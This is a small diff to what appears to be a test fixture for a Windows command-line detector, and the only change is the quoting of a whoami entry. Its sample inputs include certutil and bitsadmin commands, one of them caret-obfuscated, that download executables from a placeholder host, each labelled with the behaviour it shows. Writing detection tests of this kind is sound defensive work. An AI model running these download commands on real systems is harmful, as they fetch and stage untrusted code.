@@ -30,7 +30,7 @@ POWERSHELL = [
 ]  # fmt: skip
 CMD = [
     ("cmd /c dir", set()),
-    ("cmd.exe /c \"whoami /all\"", {"windows.discovers"}),
+    ('cmd.exe /c "whoami /all"', {"windows.discovers"}),
     ("certutil -urlcache -split -f http://a.example/x.exe x.exe", {"windows.downloads"}),
     ("c^e^r^t^u^t^i^l -urlcache -f http://a.example/x x", {"windows.downloads", "windows.obfuscated"}),
     ("bitsadmin /transfer j http://a.example/x %TEMP%\\x", {"windows.downloads"}),
